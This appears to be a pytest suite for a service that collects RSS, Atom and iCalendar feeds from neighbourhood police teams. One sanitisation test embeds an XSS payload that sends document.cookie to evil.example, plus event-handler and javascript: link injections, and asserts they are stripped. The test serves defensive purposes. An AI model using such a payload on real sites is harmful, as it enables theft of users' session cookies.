"""The collect service end to end: a real HTTP server on loopback and a migrated database."""

from __future__ import annotations

import dataclasses
import socket
from datetime import UTC, datetime, timedelta
from pathlib import Path

import httpx
import pytest
from sqlalchemy import select
from sqlalchemy.orm import Session, sessionmaker

from alerts.core.config import Settings
from alerts.sources.collect import collect
from alerts.sources.fetch import fetch
from alerts.sources.items import Item, ItemKind
from alerts.sources.registry import Source, SourceError, add_source, officer_source
from tests.factories import make_ward
from tests.servers import FeedServer

RSS = """<?xml version="1.0" encoding="utf-8"?>
<rss version="2.0"><channel>
  <title>Riverside Safer Neighbourhood Team</title>
  <link>https://snt.police.example/riverside/</link>
  <item>
    <title>Shed break-ins on Mill Lane</title>
    <link>https://snt.police.example/riverside/news/sheds</link>
    <guid>riverside-sheds</guid>
    <description>&lt;p&gt;Please check your shed locks.&lt;/p&gt;</description>
  </item>
  <item>
    <title>Keep catalytic converters safe</title>
    <link>https://snt.police.example/riverside/news/converters</link>
    <guid>riverside-converters</guid>
    <category>Crime prevention</category>
    <description>&lt;p&gt;Park close to a wall.&lt;/p&gt;</description>
  </item>
</channel></rss>
"""

ATOM = """<?xml version="1.0" encoding="utf-8"?>
<feed xmlns="http://www.w3.org/2005/Atom">
  <title>Northfield ward team</title>
  <id>tag:snt.police.example,2026:northfield</id>
  <updated>2026-03-04T18:00:00Z</updated>
  <entry>
    <id>tag:snt.police.example,2026:northfield/1</id>
    <title>Speed watch results</title>
    <link href="https://snt.police.example/northfield/1"/>
    <updated>2026-03-04T18:00:00Z</updated>
    <content type="html">&lt;p&gt;We checked 312 cars on School Road.&lt;/p&gt;</content>
  </entry>
</feed>
"""


def now_utc() -> datetime:
    return datetime.now(UTC).replace(microsecond=0)


def stamp(moment: datetime) -> str:
    return moment.astimezone(UTC).strftime("%Y%m%dT%H%M%SZ")


def calendar(*events: list[str]) -> str:
    lines = ["BEGIN:VCALENDAR", "VERSION:2.0", "PRODID:-//Riverside SNT//Sessions//EN"]
    for event in events:
        lines += ["BEGIN:VEVENT", *event, "END:VEVENT"]
    lines.append("END:VCALENDAR")
    return "\r\n".join(lines) + "\r\n"


def weekly(first: datetime, *extra: str) -> list[str]:
    """A weekly 'meet your team' session at the library, the first one at `first`."""
    return [
        "UID:meet-your-team@riverside.snt.example",
        f"DTSTART:{stamp(first)}",
        f"DTEND:{stamp(first + timedelta(hours=1, minutes=30))}",
        "RRULE:FREQ=WEEKLY",
        "SUMMARY:Meet your team",
        "LOCATION:Riverside Library",
        *extra,
    ]


def one_off(uid: str, at: datetime, summary: str, *extra: str) -> list[str]:
    return [
        f"UID:{uid}",
        f"DTSTART:{stamp(at)}",
        f"DTEND:{stamp(at + timedelta(hours=1))}",
        f"SUMMARY:{summary}",
        *extra,
    ]


def new_source(session: Session, kind: str, url: str, ward_code: str | None = None) -> Source:
    code = ward_code or make_ward(session).code
    source = add_source(session, code, kind, url)
    session.commit()
    return source


def items_of(factory: sessionmaker[Session], source: Source) -> list[Item]:
    with factory() as fresh:
        return list(
            fresh.scalars(select(Item).where(Item.source_id == source.id).order_by(Item.id))
        )


def reload(factory: sessionmaker[Session], source: Source) -> Source:
    with factory() as fresh:
        found = fresh.get(Source, source.id)
        assert found is not None
        return found


def headers_of(feeds: FeedServer, path: str) -> list[dict[str, str]]:
    return [
        {name.lower(): value for name, value in headers.items()}
        for requested, headers in feeds.requests
        if requested == path
    ]


def closed_port_url() -> str:
    with socket.socket(socket.AF_INET, socket.SOCK_STREAM) as probe:
        probe.bind(("127.0.0.1", 0))
        port = probe.getsockname()[1]
    return f"http://127.0.0.1:{port}/feed.xml"


def test_rss_and_atom_feeds_are_collected_over_http(
    factory: sessionmaker[Session], session: Session, feeds: FeedServer, settings: Settings
) -> None:
    ward = make_ward(session)
    rss = new_source(session, "rss", feeds.put("/riverside.xml", RSS), ward.code)
    atom = new_source(session, "atom", feeds.put("/northfield.xml", ATOM), ward.code)

    report = collect(factory, settings)

    assert report.errors == []
    assert report.added == 3
    assert [item.title for item in items_of(factory, rss)] == [
        "Shed break-ins on Mill Lane", "Keep catalytic converters safe"
    ]
    assert [item.kind for item in items_of(factory, rss)] == [ItemKind.POST, ItemKind.ADVICE]
    (speed,) = items_of(factory, atom)
    assert speed.body_html == "<p>We checked 312 cars on School Road.</p>"
    assert speed.link == "https://snt.police.example/northfield/1"
    assert headers_of(feeds, "/riverside.xml")[0]["user-agent"] == settings.sources.user_agent
    assert reload(factory, rss).last_ok_at is not None


def test_collecting_twice_stores_each_item_once(
    factory: sessionmaker[Session], session: Session, feeds: FeedServer, settings: Settings
) -> None:
    source = new_source(session, "rss", feeds.put("/riverside.xml", RSS))

    first = collect(factory, settings)
    second = collect(factory, settings)

    assert (first.added, second.added) == (2, 0)
    assert second.results[0].updated == 0
    assert len(items_of(factory, source)) == 2
    assert len(headers_of(feeds, "/riverside.xml")) == 2


def test_an_etag_makes_the_next_fetch_conditional_and_a_304_parses_nothing(
    factory: sessionmaker[Session], session: Session, feeds: FeedServer, settings: Settings
) -> None:
    url = feeds.put("/riverside.xml", RSS, headers={"ETag": '"riverside-v1"'})
    source = new_source(session, "rss", url)

    collect(factory, settings)
    assert reload(factory, source).etag == '"riverside-v1"'
    later = now_utc() + timedelta(minutes=15)
    (result,) = collect(factory, settings, now=later).results

    first_request, second_request = headers_of(feeds, "/riverside.xml")
    assert "if-none-match" not in first_request
    assert second_request["if-none-match"] == '"riverside-v1"'
    assert result.not_modified
    assert (result.added, result.updated, result.error) == (0, 0, None)
    assert reload(factory, source).last_ok_at == later
    assert len(items_of(factory, source)) == 2


def test_validators_too_long_to_store_are_dropped_and_the_items_still_land(
    factory: sessionmaker[Session], session: Session, feeds: FeedServer, settings: Settings
) -> None:
    url = feeds.put("/riverside.xml", RSS, headers={
        "ETag": '"' + "e" * 600 + '"',
        "Last-Modified": "Wed, 04 Mar 2026 18:00:00 GMT (" + "x" * 80 + ")",
    })
    source = new_source(session, "rss", url)

    (result,) = collect(factory, settings).results

    assert (result.added, result.error) == (2, None)
    assert (reload(factory, source).etag, reload(factory, source).last_modified) == (None, None)


def test_last_modified_is_sent_back_as_if_modified_since(
    factory: sessionmaker[Session], session: Session, feeds: FeedServer, settings: Settings
) -> None:
    stamp_header = "Wed, 04 Mar 2026 18:00:00 GMT"
    url = feeds.put("/riverside.xml", RSS, headers={"Last-Modified": stamp_header})
    source = new_source(session, "rss", url)

    collect(factory, settings)
    collect(factory, settings)

    assert reload(factory, source).last_modified == stamp_header
    first_request, second_request = headers_of(feeds, "/riverside.xml")
    assert "if-modified-since" not in first_request
    assert second_request["if-modified-since"] == stamp_header


def broken_source(kind: str, feeds: FeedServer) -> tuple[str, str]:
    """(kind, url) of a source that cannot be collected, for each way it can break."""
    if kind == "unreachable":
        return "rss", closed_port_url()
    if kind == "http-500":
        return "rss", feeds.put("/broken.xml", "oops", status=500, content_type="text/plain")
    if kind == "html-page":
        page = "<!DOCTYPE html><html><head><title>Riverside</title></head><body><p>Hi</p></body>"
        return "rss", feeds.put("/ward-page", page, content_type="text/html")
    assert kind == "bad-ics"
    return "ics", feeds.put("/sessions.ics", "Sessions: every Thursday at the library",
                            content_type="text/calendar")


@pytest.mark.parametrize(
    ("breakage", "reason"),
    [
        ("unreachable", "could not connect to 127.0.0.1:"),
        ("http-500", "the server answered HTTP 500"),
        ("html-page", "is not an RSS or Atom feed: it is an HTML page"),
        ("bad-ics", "is not a valid iCalendar file"),
    ],
)
def test_a_broken_source_gets_a_one_line_error_and_the_others_are_still_collected(
    factory: sessionmaker[Session],
    session: Session,
    feeds: FeedServer,
    settings: Settings,
    breakage: str,
    reason: str,
) -> None:
    now = now_utc()
    ward = make_ward(session)
    before = new_source(session, "rss", feeds.put("/riverside.xml", RSS), ward.code)
    kind, url = broken_source(breakage, feeds)
    broken = new_source(session, kind, url, ward.code)
    sessions = calendar(weekly(now + timedelta(days=1)))
    after = new_source(session, "ics", feeds.put("/good.ics", sessions), ward.code)

    report = collect(factory, settings, now=now)

    (error,) = report.errors
    assert error.startswith(f"{broken.describe()}: ")
    assert reason in error
    assert "\n" not in error
    assert len(items_of(factory, before)) == 2
    assert len(items_of(factory, after)) == 6
    assert items_of(factory, broken) == []
    stored = reload(factory, broken)
    assert stored.last_error == error
    assert stored.last_fetched_at == now
    assert stored.last_ok_at is None


def test_a_source_that_breaks_later_keeps_its_items_and_recovers(
    factory: sessionmaker[Session], session: Session, feeds: FeedServer, settings: Settings
) -> None:
    source = new_source(session, "rss", feeds.put("/riverside.xml", RSS))
    collect(factory, settings)

    feeds.put("/riverside.xml", "<html><body>Down for maintenance</body></html>", status=503,
              content_type="text/html")
    (failed,) = collect(factory, settings).results
    assert failed.error == f"{source.describe()}: the server answered HTTP 503 Service Unavailable"
    assert len(items_of(factory, source)) == 2
    assert reload(factory, source).last_error == failed.error

    feeds.put("/riverside.xml", RSS)
    (recovered,) = collect(factory, settings).results
    assert recovered.error is None
    assert reload(factory, source).last_error is None


def test_scripts_event_handlers_and_javascript_links_are_stripped_from_feed_html(
    factory: sessionmaker[Session], session: Session, feeds: FeedServer, settings: Settings
) -> None:
    hostile = """<?xml version="1.0"?><rss version="2.0"><channel><title>t</title><item>
      <guid>hostile-1</guid><title>Bike marking on Saturday</title>
      <description><![CDATA[
        <p onclick="steal()">Bring your bike to the library.</p>
        <script>document.location='https://evil.example/?c='+document.cookie</script>
        <img src="x.png" onerror="steal()">
        <a href="javascript:steal()">Book a slot</a>
        <a href="https://snt.police.example/bikes" onmouseover="steal()">Details</a>
      ]]></description>
    </item></channel></rss>"""
    source = new_source(session, "rss", feeds.put("/hostile.xml", hostile))

    collect(factory, settings)

    (item,) = items_of(factory, source)
    body = item.body_html.lower()
    for bad in ("<script", "steal", "evil.example", "onclick", "onerror", "onmouseover",
                "javascript:", "<img"):
        assert bad not in body
    assert "Bring your bike to the library." in item.body_html
    assert 'href="https://snt.police.example/bikes"' in item.body_html


def sessions_calendar(now: datetime, *more: list[str], weekly_extra: tuple[str, ...] = ()) -> str:
    return calendar(weekly(now + timedelta(days=1), *weekly_extra), *more)


def test_a_weekly_session_is_expanded_over_the_coming_weeks(
    factory: sessionmaker[Session], session: Session, feeds: FeedServer, settings: Settings
) -> None:
    now = now_utc()
    source = new_source(session, "ics", feeds.put("/sessions.ics", sessions_calendar(now)))

    (result,) = collect(factory, settings, now=now).results

    items = items_of(factory, source)
    assert settings.sources.calendar_weeks == 6
    assert result.added == len(items) == 6
    assert [item.starts_at for item in items] == [
        now + timedelta(days=1 + 7 * week) for week in range(6)
    ]
    assert all(item.kind == ItemKind.SESSION for item in items)
    assert all(item.location == "Riverside Library" for item in items)


def test_cancelled_events_occurrences_and_excluded_dates_are_not_collected(
    factory: sessionmaker[Session], session: Session, feeds: FeedServer, settings: Settings
) -> None:
    now = now_utc()
    first = now + timedelta(days=1)
    cancelled_event = one_off("panel@riverside.snt.example", now + timedelta(days=3),
                              "Ward panel meeting", "STATUS:CANCELLED")
    cancelled_once = [
        "UID:meet-your-team@riverside.snt.example",
        f"RECURRENCE-ID:{stamp(first + timedelta(weeks=1))}",
        f"DTSTART:{stamp(first + timedelta(weeks=1))}",
        f"DTEND:{stamp(first + timedelta(weeks=1, hours=1))}",
        "SUMMARY:Meet your team",
        "STATUS:CANCELLED",
    ]
    excluded = f"EXDATE:{stamp(first + timedelta(weeks=2))}"
    body = sessions_calendar(now, cancelled_event, cancelled_once, weekly_extra=(excluded,))
    source = new_source(session, "ics", feeds.put("/sessions.ics", body))

    collect(factory, settings, now=now)

    items = items_of(factory, source)
    assert "Ward panel meeting" not in [item.title for item in items]
    starts = [item.starts_at for item in items]
    assert first + timedelta(weeks=1) not in starts
    assert first + timedelta(weeks=2) not in starts
    assert len(items) == 4


def test_a_session_removed_from_the_calendar_is_withdrawn(
    factory: sessionmaker[Session], session: Session, feeds: FeedServer, settings: Settings
) -> None:
    now = now_utc()
    panel = one_off("panel@riverside.snt.example", now + timedelta(days=3), "Ward panel meeting")
    source = new_source(session, "ics", feeds.put("/sessions.ics", sessions_calendar(now, panel)))
    collect(factory, settings, now=now)

    feeds.put("/sessions.ics", sessions_calendar(now))
    (result,) = collect(factory, settings, now=now + timedelta(minutes=15)).results

    assert result.withdrawn == 1
    withdrawn = [item for item in items_of(factory, source) if item.withdrawn_at is not None]
    assert [item.title for item in withdrawn] == ["Ward panel meeting"]


def test_a_session_cancelled_later_is_withdrawn(
    factory: sessionmaker[Session], session: Session, feeds: FeedServer, settings: Settings
) -> None:
    now = now_utc()
    panel = one_off("panel@riverside.snt.example", now + timedelta(days=3), "Ward panel meeting")
    source = new_source(session, "ics", feeds.put("/sessions.ics", sessions_calendar(now, panel)))
    collect(factory, settings, now=now)

    feeds.put("/sessions.ics", sessions_calendar(now, [*panel, "STATUS:CANCELLED"]))
    (result,) = collect(factory, settings, now=now + timedelta(minutes=15)).results

    assert result.withdrawn == 1
    (withdrawn,) = [item for item in items_of(factory, source) if item.withdrawn_at]
    assert withdrawn.title == "Ward panel meeting"


def test_a_calendar_is_fetched_whole_so_the_coming_weeks_keep_filling_in(
    factory: sessionmaker[Session], session: Session, feeds: FeedServer, settings: Settings
) -> None:
    now = now_utc()
    url = feeds.put("/sessions.ics", sessions_calendar(now), headers={"ETag": '"cal-v1"'})
    source = new_source(session, "ics", url)
    collect(factory, settings, now=now)

    (result,) = collect(factory, settings, now=now + timedelta(days=7)).results

    assert "if-none-match" not in headers_of(feeds, "/sessions.ics")[1]
    assert not result.not_modified
    assert (result.added, result.withdrawn) == (1, 0)
    assert len(items_of(factory, source)) == 7


def test_one_source_can_be_collected_alone(
    factory: sessionmaker[Session], session: Session, feeds: FeedServer, settings: Settings
) -> None:
    ward = make_ward(session)
    wanted = new_source(session, "rss", feeds.put("/riverside.xml", RSS), ward.code)
    other = new_source(session, "atom", feeds.put("/northfield.xml", ATOM), ward.code)

    report = collect(factory, settings, source_id=wanted.id)

    assert [result.source_id for result in report.results] == [wanted.id]
    assert items_of(factory, other) == []


def test_collecting_a_source_that_does_not_exist_is_refused(
    factory: sessionmaker[Session], settings: Settings
) -> None:
    with pytest.raises(SourceError, match="no source with id 999"):
        collect(factory, settings, source_id=999)


def test_officer_sources_are_not_fetched(
    factory: sessionmaker[Session], session: Session, feeds: FeedServer, settings: Settings
) -> None:
    ward = make_ward(session)
    own = officer_source(session, ward)
    session.commit()
    feed = new_source(session, "rss", feeds.put("/riverside.xml", RSS), ward.code)

    report = collect(factory, settings)

    assert [result.source_id for result in report.results] == [feed.id]
    assert reload(factory, own).last_fetched_at is None
    with pytest.raises(SourceError, match="nothing to collect"):
        collect(factory, settings, source_id=own.id)


def test_a_redirected_feed_is_followed(
    factory: sessionmaker[Session], session: Session, feeds: FeedServer, settings: Settings
) -> None:
    feeds.put("/riverside.xml", RSS)
    moved = feeds.put("/old-feed", "", status=301, content_type="text/plain",
                      headers={"Location": "/riverside.xml"})
    source = new_source(session, "rss", moved)

    (result,) = collect(factory, settings).results

    assert result.error is None
    assert len(items_of(factory, source)) == 2


def test_a_server_that_never_answers_times_out_with_a_clear_error(
    factory: sessionmaker[Session], session: Session, settings: Settings
) -> None:
    with socket.socket(socket.AF_INET, socket.SOCK_STREAM) as silent:
        silent.bind(("127.0.0.1", 0))
        silent.listen()  # accepts connections (in the backlog) but never answers
        url = f"http://127.0.0.1:{silent.getsockname()[1]}/feed.xml"
        source = new_source(session, "rss", url)
        with httpx.Client(timeout=0.3) as client:
            (result,) = collect(factory, settings, client=client).results

    assert result.error == f"{source.describe()}: timed out after 0.3 s"


def test_a_response_larger_than_the_cap_is_refused(feeds: FeedServer) -> None:
    url = feeds.put("/huge.xml", b"x" * 2048)
    with httpx.Client() as client:
        assert fetch(client, url, etag=None, last_modified=None, max_bytes=2048).content
        with pytest.raises(SourceError, match="larger than 1,024 bytes"):
            fetch(client, url, etag=None, last_modified=None, max_bytes=1024)


def test_a_streamed_response_is_cut_off_once_it_passes_the_cap() -> None:
    def endless(request: httpx.Request) -> httpx.Response:
        return httpx.Response(200, content=(b"y" * 512 for _ in range(100)))  # no length

    with (
        httpx.Client(transport=httpx.MockTransport(endless)) as client,
        pytest.raises(SourceError, match="larger than 4,096 bytes"),
    ):
        fetch(client, "http://feeds.example/", etag=None, last_modified=None, max_bytes=4096)


def test_only_the_demo_adds_file_sources_and_only_a_demo_config_reads_them(
    factory: sessionmaker[Session], session: Session, settings: Settings, tmp_path: Path
) -> None:
    """`alerts demo` leaves its sample feeds as files that `alerts run` still collects after
    it, through the same conditional GET; nobody else can add or read a file source."""
    feed = tmp_path / "riverside.xml"
    feed.write_text(RSS, encoding="utf-8")
    url = f"file://localhost{feed.as_posix()}"
    ward = make_ward(session)
    with pytest.raises(SourceError, match="not an http"):
        add_source(session, ward.code, "rss", url)
    source = add_source(session, ward.code, "rss", url, local_files=True)
    session.commit()

    refused = collect(factory, settings)
    assert len(refused.errors) == 1 and items_of(factory, source) == []

    demo = dataclasses.replace(settings, demo=True)
    first, second = collect(factory, demo), collect(factory, demo)
    assert (first.errors, first.added) == ([], 2)
    assert second.errors == [] and second.results[0].not_modified
